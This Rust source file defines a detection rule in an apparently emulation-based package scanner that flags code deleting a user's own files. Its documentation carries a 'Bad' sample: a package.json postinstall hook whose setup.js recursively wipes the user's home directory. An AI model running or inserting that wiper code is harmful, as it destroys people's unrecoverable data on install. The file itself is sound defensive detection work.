//! # The user's own files are seen being deleted
//!
//! Run in a fake world, the code deleted files of the user's that it had not made.
//!
//! ## Why it matters
//!
//! Wipers and dead man's switches delete what a person cannot get back.
//!
//! ## Known benign uses
//!
//! Installers and build tools delete what they made, caches and temporary files: these are no finding.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! const home = os.homedir();
//! for (const name of fs.readdirSync(home)) fs.rmSync(path.join(home, name), { recursive: true, force: true }); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! const scratch = fs.mkdtempSync(path.join(os.tmpdir(), "x-"));
//! fs.writeFileSync(path.join(scratch, "a"), "1");
//! fs.rmSync(scratch, { recursive: true });
//! fs.rmSync(path.join(__dirname, "dist"), { recursive: true, force: true });
//! ```
//!
//! ## References
//!
//! - Shai-Hulud worm, second wave (November 2025)

use crate::prelude::*;

/// The user's own files are seen being deleted.
pub struct UsersFilesSeenDeleted;

impl Rule for UsersFilesSeenDeleted {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "users-files-seen-deleted",
            title: "The user's own files are seen being deleted",
            tier: Tier::Emulation,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1485",
            covers: &["impact-wiper", "impact-dead-man-switch"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_lost = |proof: &&Proof| proof.kind == ProofKind::Destroyed && proof.trigger.runs_unasked();
        facts.proofs().iter().filter(is_lost).for_each(|proof| found.seen(proof));
    }
}
